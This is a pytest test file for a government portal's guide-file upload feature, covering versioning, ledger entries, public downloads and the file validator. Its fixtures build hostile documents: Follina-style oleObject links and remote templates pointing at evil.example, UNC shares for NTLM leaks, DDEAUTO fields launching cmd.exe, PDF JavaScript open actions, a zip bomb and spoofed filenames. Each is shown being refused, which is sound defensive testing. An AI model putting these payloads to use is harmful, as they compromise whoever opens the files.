"""服务指南's 示范文本 and 常见错误示例 as files (issue 10 §1; s23 tester10 #13): the agency's editors attach a
PDF, Word document or image to a 申请材料, checked by its bytes and size; each attach or removal is a new
version of the guide with its reason, ledgered; the portal offers the file as a download (name, type,
size) to anyone, without a session, and only a file a published version names."""

import io
import zipfile
from pathlib import Path

import pytest
from django.test import Client, override_settings
from PIL import Image

from sanxiang.access.actors import OPERATOR
from sanxiang.core.errors import NotPermitted, RuleViolation
from sanxiang.disclosure.actions import (
    do_attach_guide_file,
    do_detach_guide_file,
    do_publish_disclosure,
    do_store_guide_file,
)
from sanxiang.disclosure.demo import sample_docx
from sanxiang.disclosure.models import DisclosureVersion, GuideFile, Section
from sanxiang.disclosure.schema import FILE_ROLES
from sanxiang.disclosure.testing import GUIDE, publish_all
from sanxiang.ledger.models import LedgerEntry

pytestmark = pytest.mark.django_db

DOCX = sample_docx("申请书", [("申请人名称", "某某公司（示例）")])


def pdf(page_action=False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject

    w = PdfWriter()
    page = w.add_blank_page(100, 100)
    if page_action:  # an action run when the page opens: nothing in the raw bytes' vocabulary shows it
        page[NameObject("/AA")] = DictionaryObject()
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


PDF = pdf()


def image(fmt) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, fmt)
    return out.getvalue()


def client_for(user):
    c = Client()
    c.force_login(user)
    return c


def state():
    return (DisclosureVersion.objects.count(), GuideFile.objects.count(), LedgerEntry.objects.count())


def upload(c, agency, data, name, **extra):
    from django.core.files.uploadedfile import SimpleUploadedFile

    form = {"material": "1", "role": "sample_file", "cause": "routine", "reason": "上传申请书填写示范",
            "file": SimpleUploadedFile(name, data), **extra}
    return c.post(f"/disclosure/{agency.code}/guides/XK-001/files/", form)


def test_the_editor_attaches_a_sample_and_anyone_downloads_it_from_the_portal(cast):
    publish_all(cast.a, actor=OPERATOR)
    c = client_for(cast.editor)
    before = state()
    r = upload(c, cast.a, DOCX, "申请书填写示范.docx")
    assert r.status_code == 302, r.content.decode()[:2000]
    row = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version").first()
    assert row.version == 2 and row.reason == "上传申请书填写示范"
    f = row.content["items"][0]["materials"][0]["sample_file"]
    assert f["name"] == "申请书填写示范.docx" and f["size"] == len(DOCX) and f["media_type"].endswith("document")
    assert state()[:2] == (before[0] + 1, before[1] + 1)
    stored = LedgerEntry.objects.filter(action="store_guide_file").order_by("-index").first()
    assert '"files":[{' in stored.entry and f["sha256"] in stored.entry
    assert LedgerEntry.objects.filter(action="publish_disclosure", entry__contains=f["sha256"]).exists()

    anon = Client()
    page = anon.get(f"/gk/{cast.a.code}/zhinan/XK-001/").content.decode()
    link = f"/gk/{cast.a.code}/wenjian/{f['sha256']}/"
    assert link in page and "下载 申请书填写示范.docx" in page and "Word 文档" in page and "KB" in page
    assert link in anon.get(f"/gk/{cast.a.code}/zhinan/").content.decode()
    got = anon.get(link)
    assert got.status_code == 200 and b"".join(got.streaming_content) == DOCX
    assert got["Content-Type"] == f["media_type"] and got["X-Content-Type-Options"] == "nosniff"
    assert got["Content-Disposition"].startswith("attachment;") and "filename*=UTF-8''" in got["Content-Disposition"]
    assert "public" in got["Cache-Control"] and "Set-Cookie" not in got and not got.cookies
    # another agency's portal does not serve it
    assert anon.get(f"/gk/{cast.b.code}/wenjian/{f['sha256']}/").status_code == 404


def test_editing_the_words_keeps_the_files_and_removing_one_is_a_new_version(cast):
    publish_all(cast.a, actor=OPERATOR)
    c = client_for(cast.reviewer)
    assert upload(c, cast.a, PDF, "示范.pdf").status_code == 302
    assert upload(c, cast.a, image("PNG"), "错误.png", role="errors_file", reason="上传常见错误示例").status_code == 302
    form = {k: v for k, v in GUIDE.items() if k != "materials"}
    form.update(materials="申请书｜填写示范见附件｜未签字（改）", cause="routine", reason="改写常见错误")
    r = c.post(f"/disclosure/{cast.a.code}/guides/XK-001/edit/", form)
    assert r.status_code == 302
    m = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0].content[
        "items"][0]["materials"][0]
    assert m["common_errors"] == "未签字（改）" and m["sample_file"]["media_type"] == "application/pdf"
    assert m["errors_file"]["media_type"] == "image/png"
    page = c.get(f"/disclosure/{cast.a.code}/guides/XK-001/edit/").content.decode()
    assert "示范.pdf" in page and "错误.png" in page and "PNG 图片" in page
    r = c.post(f"/disclosure/{cast.a.code}/guides/XK-001/files/remove/", {"material": "1", "role": "errors_file",
                                                                         "cause": "routine", "reason": ""})
    assert "errors_file" in DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by(
        "-version")[0].content["items"][0]["materials"][0]  # no reason: nothing removed
    r = c.post(f"/disclosure/{cast.a.code}/guides/XK-001/files/remove/", {"material": "1", "role": "errors_file",
                                                                         "cause": "routine", "reason": "示例有误"})
    assert r.status_code == 302
    last = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0]
    assert last.reason == "示例有误" and "errors_file" not in last.content["items"][0]["materials"][0]
    # the earlier version, shown in the portal's history, still offers it
    anon = Client()
    old = anon.get(f"/gk/{cast.a.code}/zhinan/lishi/{last.version - 1}/").content.decode()
    assert m["errors_file"]["sha256"] in old
    assert anon.get(f"/gk/{cast.a.code}/wenjian/{m['errors_file']['sha256']}/").status_code == 200


def _docx_with(extra: dict) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(DOCX))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n in src.namelist():
            z.writestr(n, src.read(n))
        for n, data in extra.items():
            z.writestr(n, data)
    return out.getvalue()


@pytest.mark.parametrize("data,name,message", [
    (b"<html><script>alert(1)</script></html>", "示范.pdf", "只能上传"),
    (b"MZ\x90\x00" + b"\x00" * 200, "示范.docx", "只能上传"),
    (image("GIF"), "示范.png", "只能上传"),
    (_docx_with({"word/vbaProject.bin": b"x"}), "示范.docx", "宏"),
    (PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "示范.pdf", "脚本"),
    (pdf(page_action=True), "示范.pdf", "脚本"),
    (PDF[:-7], "示范.pdf", "不是完整的 PDF"),
    (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "示范.pdf", "不是完整的 PDF"),
    (image("PNG")[:40], "示范.png", "图片已损坏"),
    (b"PK\x03\x04" + b"\x00" * 60, "示范.docx", "只能上传"),
])
def test_a_file_that_is_not_a_clean_pdf_docx_or_image_is_refused_and_nothing_is_written(cast, data, name, message):
    publish_all(cast.a, actor=OPERATOR)
    c = client_for(cast.editor)
    before = state()
    r = upload(c, cast.a, data, name)
    assert r.status_code == 400 and message in r.content.decode()
    assert state() == before


LIBREOFFICE_PDF = (Path(__file__).parent / "data" / "libreoffice-7.4-sample.pdf").read_bytes()
# `soffice --headless --convert-to pdf 示范.txt` (LibreOffice 7.4): its catalog opens page 1 by
# `/OpenAction[1 0 R /XYZ null null 0]` — a destination, no action (s26 defects10g #7)


def pdf_opening(action) -> bytes:
    """A blank PDF whose catalog's `/OpenAction` is `action(writer, page)` (a pypdf object), written without the
    raw bytes' vocabulary the first check reads (no /JavaScript, /JS, /Launch)."""
    from pypdf import PdfWriter
    from pypdf.generic import NameObject

    w = PdfWriter()
    page = w.add_blank_page(100, 100)
    w._root_object[NameObject("/OpenAction")] = action(w, page)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _action(kind, **entries):
    from pypdf.generic import DictionaryObject, NameObject

    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(k): v for k, v in entries.items()}})


def _fit(page, how="/Fit"):
    from pypdf.generic import ArrayObject, NameObject

    return ArrayObject([page.indirect_reference, NameObject(how)])


def test_a_pdf_exported_by_libreoffice_whose_open_action_is_a_destination_is_accepted(cast):
    assert b"/OpenAction[1 0 R /XYZ null null 0]" in LIBREOFFICE_PDF
    publish_all(cast.a, actor=OPERATOR)
    c = client_for(cast.editor)
    assert upload(c, cast.a, LIBREOFFICE_PDF, "示范.pdf").status_code == 302
    m = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0].content[
        "items"][0]["materials"][0]
    assert m["sample_file"]["media_type"] == "application/pdf" and m["sample_file"]["name"] == "示范.pdf"


@pytest.mark.parametrize("action", [
    lambda w, page: _fit(page, "/FitH"),  # fpdf2's `[3 0 R /FitH null]`
    lambda w, page: _fit(page),
    lambda w, page: _action("/GoTo", **{"/D": _fit(page)}),  # a GoTo action to a page of this file
])
def test_an_open_action_that_only_sets_the_initial_view_is_accepted(cast, action):
    publish_all(cast.a, actor=OPERATOR)
    assert upload(client_for(cast.editor), cast.a, pdf_opening(action), "示范.pdf").status_code == 302


def _text(value):
    from pypdf.generic import TextStringObject

    return TextStringObject(value)


@pytest.mark.parametrize("action", [
    lambda w, page: _action("/URI", **{"/URI": _text("http://example.invalid/x")}),
    lambda w, page: _action("/SubmitForm", **{"/F": _text("http://example.invalid/x")}),
    lambda w, page: _action("/ImportData", **{"/F": _text("data.fdf")}),
    lambda w, page: _action("/GoToR", **{"/F": _text("other.pdf"), "/D": _fit(page)}),
    lambda w, page: _action("/GoToE", **{"/D": _fit(page)}),
    lambda w, page: _action("/Rendition"),
    lambda w, page: _action("/Sound"),
    lambda w, page: _action("/Movie"),
    lambda w, page: _action("/GoTo", **{"/D": _fit(page), "/Next": _action("/URI", **{"/URI": _text("http://x.invalid")})}),
    lambda w, page: _action("/GoTo"),  # a GoTo with no destination
])
def test_an_open_action_that_does_anything_but_go_to_a_page_of_the_file_is_refused(cast, action):
    publish_all(cast.a, actor=OPERATOR)
    before = state()
    r = upload(client_for(cast.editor), cast.a, pdf_opening(action), "示范.pdf")
    assert r.status_code == 400 and "脚本、启动动作或嵌入文件" in r.content.decode()
    assert state() == before


def test_a_hand_made_pdf_that_opens_with_javascript_is_refused(cast):
    """LibreOffice's file with its destination replaced by a JavaScript action, and a pypdf-written one."""
    publish_all(cast.a, actor=OPERATOR)
    hand = LIBREOFFICE_PDF.replace(b"/OpenAction[1 0 R /XYZ null null 0]",
                                   b"/OpenAction<</S/JavaScript/JS(x)>>".ljust(35))
    assert len(hand) == len(LIBREOFFICE_PDF)  # the xref offsets still hold
    before = state()
    for data in (hand, pdf_opening(lambda w, page: _action("/JavaScript", **{"/JS": _text("app.alert(1)")}))):
        r = upload(client_for(cast.editor), cast.a, data, "示范.pdf")
        assert r.status_code == 400 and "脚本" in r.content.decode()
    assert state() == before


@override_settings(GUIDE_FILE_MAX_BYTES=1000)
def test_a_file_over_the_size_limit_is_refused(cast):
    publish_all(cast.a, actor=OPERATOR)
    before = state()
    r = upload(client_for(cast.editor), cast.a, PDF + b"%" + b"x" * 2000 + b"\n%%EOF\n", "大.pdf")
    assert r.status_code == 400 and "文件过大" in r.content.decode() and state() == before
    with pytest.raises(RuleViolation, match="文件过大"):
        do_store_guide_file(cast.a, b"%PDF-" + b"x" * 2000, "x.pdf", actor=cast.editor)


def test_only_the_agencys_editors_attach_and_a_file_nobody_published_is_not_public(cast):
    publish_all(cast.a, actor=OPERATOR)
    before = state()
    assert upload(client_for(cast.officer), cast.a, PDF, "a.pdf").status_code == 404
    assert upload(client_for(cast.other), cast.a, PDF, "a.pdf").status_code == 404
    with pytest.raises(NotPermitted):
        do_attach_guide_file(cast.a, "XK-001", 1, "sample_file", PDF, "a.pdf", reason="x", actor=cast.officer)
    assert state() == before
    row = do_store_guide_file(cast.a, PDF, "未发布.pdf", actor=cast.editor)
    assert Client().get(f"/gk/{cast.a.code}/wenjian/{row.sha256}/").status_code == 404
    # agency B cannot name agency A's file in its own guide
    with pytest.raises(RuleViolation) as exc:
        do_publish_disclosure(cast.b, Section.GUIDES, {"items": [{**GUIDE, "materials": [
            {"name": "申请书", "sample_file": row.sha256}]}]}, reason="首次发布", actor=cast.other)
    assert exc.value.code == "guide_file_unknown"
    # a name with a path and a wrong extension is shown under a safe name of the checked type
    named = do_store_guide_file(cast.a, image("PNG"), '../../x"y.exe', actor=cast.editor)
    assert named.filename == "xy.png"
    v = do_attach_guide_file(cast.a, "XK-001", 1, "sample_file", image("JPEG"), "照片.jpeg", reason="示例照片",
                             actor=cast.leader)
    assert v.content["items"][0]["materials"][0]["sample_file"]["name"] == "照片.jpg"
    with pytest.raises(RuleViolation):
        do_detach_guide_file(cast.a, "XK-001", 1, "errors_file", reason="x", actor=cast.leader)
    with pytest.raises(RuleViolation):
        do_attach_guide_file(cast.a, "XK-001", 9, "sample_file", PDF, "a.pdf", reason="x", actor=cast.leader)


# ---- s25 tester10 #1, #2: a .docx that Word would make fetch or run something, or a zip bomb -------------
# Built here as the tester built them by hand (/tmp/s25/tester10-scratch/files/): the demo's sample with
# one part changed or added.

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _docx_edit(replace: dict | None = None, add: dict | None = None) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(DOCX))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n in src.namelist():
            data = src.read(n)
            if n in (replace or {}):
                data = replace[n](data) if callable(replace[n]) else replace[n]
            z.writestr(n, data)
        for n, data in (add or {}).items():
            z.writestr(n, data)
    return out.getvalue()


def _relationship(type_, target, external=True, part="word/_rels/document.xml.rels") -> dict:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{REL}/{type_}" Target="{target}"{mode}/>'.encode()
    if part == "word/_rels/document.xml.rels":
        return {"replace": {part: lambda b: b.replace(b"</Relationships>", rel + b"</Relationships>")}}
    return {"add": {part: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
                    b'http://schemas.openxmlformats.org/package/2006/relationships">' + rel + b"</Relationships>"}}


def _body(xml: str) -> dict:
    """The paragraph `xml` put first in the document's body."""
    return {"replace": {"word/document.xml": lambda b: b.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)}}


def _field(*instr_runs: str) -> str:
    """A complex field whose instruction is split over runs (as Word saves it after editing)."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instr_runs)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
            f'</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _vml(shape: str) -> str:
    """A paragraph holding a legacy VML drawing (a shape, text box or linked picture) as Word writes it."""
    return (f'<w:p {W} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            f'xmlns:r="{REL}"><w:r><w:pict>{shape}</w:pict></w:r></w:p>')


NESTED_DDE = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
              '</w:r><w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
REMOTE, EMBEDDED, FIELD = "从网络或其他计算机取得内容", "嵌有程序或对象", "会执行命令或引入外部内容的域代码"


@pytest.mark.parametrize("parts,message", [
    # "Follina" (CVE-2022-30190): an external oleObject relationship
    (_relationship("oleObject", "http://evil.example/x.html!"), REMOTE),
    # remote template injection, from settings.xml's relationships and from the document's
    (_relationship("attachedTemplate", "http://evil.example/t.dotm", part="word/_rels/settings.xml.rels"), REMOTE),
    (_relationship("attachedTemplate", "http://evil.example/t.dotm"), REMOTE),
    # an image fetched from a share when the file opens (NTLM hash leak), a link to a share
    (_relationship("image", "file://attacker/share/a.png"), REMOTE),
    (_relationship("hyperlink", "\\\\attacker\\share\\a.docx"), REMOTE),
    (_relationship("frame", "https://evil.example/f.html"), REMOTE),
    # an object or an imported chunk inside the package
    (_relationship("oleObject", "embeddings/x.xlsx", external=False), EMBEDDED),
    ({**_relationship("aFChunk", "afchunk.mht", external=False),
      "add": {"word/afchunk.mht": b"<script>alert(1)</script>"}}, EMBEDDED),
    (_body('<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId5"/>'),
     EMBEDDED),
    # fields that run a program or pull content in: split over runs, lower case, simple, a name built by a field
    (_body(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')), "域代码（DDEAUTO）"),
    (_body(_field(" dd", "eauto c:\\\\x.exe ")), "域代码（DDEAUTO）"),
    (_body(f'<w:p {W}><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/a.png" \\d \'/></w:p>'), "域代码（INCLUDEPICTURE）"),
    (_body(_field(' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\a.docx" ')), FIELD),
    (_body(NESTED_DDE), "名称由另一个域生成的域"),
    # a HYPERLINK field held as the hyperlink relationship is (s25 defects10c #2): a share, file://, a link built
    # by another field; a template path that climbs out of the drive or names a share
    (_body(f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "\\\\\\\\evil\\\\share\\\\x.exe"\'/></w:p>'), REMOTE),
    (_body(_field(' hyperlink \\o "提示" "file://evil/share/x.exe" ')), REMOTE),
    (_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF target </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), REMOTE),
    (_relationship("attachedTemplate", "file:///C:/../../\\\\evil\\share\\t.dotm", part="word/_rels/settings.xml.rels"),
     REMOTE),
    (_relationship("attachedTemplate", "C:\\Users\\..\\..\\t.dotm", part="word/_rels/settings.xml.rels"), REMOTE),
    # VML (s25 defects10d #4): a shape's or text box's hyperlink to a share or file://, a linked picture on a share,
    # and a HYPERLINK field whose target stands second behind an empty first argument
    (_body(_vml('<v:shape id="s1" style="width:90pt;height:30pt" href="\\\\evil\\share\\x.exe">'
                '<v:textbox><w:txbxContent><w:p><w:r><w:t>点此下载</w:t></w:r></w:p></w:txbxContent></v:textbox>'
                '</v:shape>')), REMOTE),
    (_body(_vml('<v:rect id="s2" style="width:90pt;height:30pt" href="file://evil/share/x.exe"/>')), REMOTE),
    (_body(_vml('<v:shape id="s3" style="width:90pt;height:30pt"><v:imagedata o:href="\\\\evil\\share\\a.png"/>'
                '</v:shape>')), REMOTE),
    (_body(_vml('<v:shape id="s4" style="width:90pt;height:30pt"><v:imagedata src="file://evil/share/a.png"/>'
                '</v:shape>')), REMOTE),
    (_body(f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "" "\\\\evil\\x.exe"\'/></w:p>'), REMOTE),
    (_body(_field(' HYPERLINK "" \\o "提示" "file://evil/x.exe" ')), REMOTE),
    # no DTD in a package part (no entity can be declared)
    ({"replace": {"word/document.xml": lambda b: b.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}},
     "不是有效的 Word 文档"),
], ids=["follina", "settings-template", "template", "remote-image", "unc-link", "remote-frame", "ole-inside",
        "afchunk-part", "altchunk", "ddeauto", "dde-split", "includepicture", "includetext", "dde-by-quote",
        "hyperlink-field-unc", "hyperlink-field-file", "hyperlink-field-nested", "template-unc", "template-dotdot",
        "vml-shape-href-unc", "vml-rect-href-file", "vml-imagedata-o-href", "vml-imagedata-src",
        "hyperlink-empty-first-unc", "hyperlink-empty-first-file", "doctype"])
def test_a_word_file_that_fetches_or_runs_something_when_opened_is_refused(cast, parts, message):
    publish_all(cast.a, actor=OPERATOR)
    before = state()
    r = upload(client_for(cast.editor), cast.a, _docx_edit(**parts), "示范.docx")
    assert r.status_code == 400, r.status_code
    body = r.content.decode()
    assert "文件未通过检查" in body and message in body
    assert state() == before


def test_a_word_file_with_page_numbers_a_date_and_a_web_link_is_accepted(cast):
    publish_all(cast.a, actor=OPERATOR)
    ok = _docx_edit(**{"replace": {
        "word/document.xml": lambda b: b.replace(b"<w:body>", (
            "<w:body>" + _field(" PAGE ", " \\* MERGEFORMAT ") + _field(' DATE \\@ "yyyy年M月d日" ')
            + f'<w:p {W}><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
            + _field(' HYPERLINK "https://www.gov.cn/zhengce/" \\o "国务院政策" ') + _field(' HYPERLINK \\l "第二节" ')
            + f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "mailto:zhengce@example.gov.cn"\'/></w:p>'
            # a VML shape linking to a web page, one to a place in the document, a picture by its relationship
            + _vml('<v:shape id="s1" style="width:90pt;height:30pt" href="https://www.gov.cn/"/>'
                   '<v:shape id="s2" style="width:90pt;height:30pt" href="#_第二节"/>'
                   '<v:shape id="s3" style="width:90pt;height:30pt"><v:imagedata r:id="rId98" o:title=""/></v:shape>')
            ).encode(), 1),
        "word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", (
            f'<Relationship Id="rId98" Type="{REL}/hyperlink" Target="https://www.gov.cn/zhengce/" '
            'TargetMode="External"/></Relationships>').encode())},
        # the template the author's Word made it from, on her own disk: nothing is fetched elsewhere
        **_relationship("attachedTemplate", "file:///C:\\Users\\wang\\公文模板.dotx",
                        part="word/_rels/settings.xml.rels")})
    r = upload(client_for(cast.editor), cast.a, ok, "有页码的示范.docx")
    assert r.status_code == 302, r.content.decode()[:2000]


@override_settings(GUIDE_FILE_MAX_UNPACKED_BYTES=2 << 20)
def test_a_word_file_that_inflates_past_the_limit_is_refused_before_it_is_unpacked(cast):
    publish_all(cast.a, actor=OPERATOR)
    before = state()
    padding = b" " * (3 << 20)  # 3 MB of blanks: a few KB once compressed, far under the upload limit
    bomb = _docx_edit(replace={"word/document.xml": lambda b: b.replace(b"<w:body>", b"<w:body>" + padding, 1)})
    assert len(bomb) < 100_000
    r = upload(client_for(cast.editor), cast.a, bomb, "炸弹.docx")
    assert r.status_code == 400 and "解压后过大（最大 2.0 MB）" in r.content.decode()
    assert state() == before
    assert upload(client_for(cast.editor), cast.a, DOCX, "示范.docx").status_code == 302  # the real one still fits


def test_the_same_bytes_uploaded_again_under_another_name_keep_each_materials_name(cast):
    """s25 tester10 #6: uploading the same bytes again (here as the same material's 常见错误示例) renamed the
    file everywhere — the 示范文本's link and every download of it took the second upload's name."""
    from urllib.parse import quote

    publish_all(cast.a, actor=OPERATOR)
    c = client_for(cast.editor)
    assert upload(c, cast.a, PDF, "../../第一份‮fdp.exe").status_code == 302
    first = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0]
    assert upload(c, cast.a, PDF, "第二份.pdf", role="errors_file", reason="上传常见错误示例").status_code == 302

    def current():
        row = DisclosureVersion.objects.filter(agency=cast.a, section=Section.GUIDES).order_by("-version")[0]
        return row.content["items"][0]["materials"][0]

    m = current()
    assert m["sample_file"]["sha256"] == m["errors_file"]["sha256"]
    assert (m["sample_file"]["name"], m["errors_file"]["name"]) == ("第一份fdp.pdf", "第二份.pdf")
    # editing the words (the whole guide saved again) renames nothing either
    form = {k: v for k, v in GUIDE.items() if k != "materials"}
    form.update(materials="申请书｜填写示范见附件｜未签字", cause="routine", reason="改写示范文本说明")
    assert c.post(f"/disclosure/{cast.a.code}/guides/XK-001/edit/", form).status_code == 302
    after = current()
    assert after["sample"] == "填写示范见附件" and [after[k] for k in FILE_ROLES] == [m[k] for k in FILE_ROLES]

    anon = Client()
    page = anon.get(f"/gk/{cast.a.code}/zhinan/XK-001/").content.decode()
    assert "下载 第一份fdp.pdf" in page and "下载 第二份.pdf" in page
    link = f"/gk/{cast.a.code}/wenjian/{m['sample_file']['sha256']}/"
    for name in ("第一份fdp.pdf", "第二份.pdf"):
        href = f"{link}?name={quote(name, safe='')}"
        assert href in page
        got = anon.get(href)
        assert got.status_code == 200 and got["Content-Disposition"].endswith(f"filename*=UTF-8''{quote(name)}")
    # a name no published version gives the file is not echoed: the latest version's is used
    got = anon.get(f"{link}?name={quote('<script>.pdf')}")
    assert got.status_code == 200 and "script" not in got["Content-Disposition"]
    # the version that had only the first upload still offers it under that name
    old = anon.get(f"/gk/{cast.a.code}/zhinan/lishi/{first.version}/").content.decode()
    assert "第一份fdp.pdf" in old and "第二份.pdf" not in old
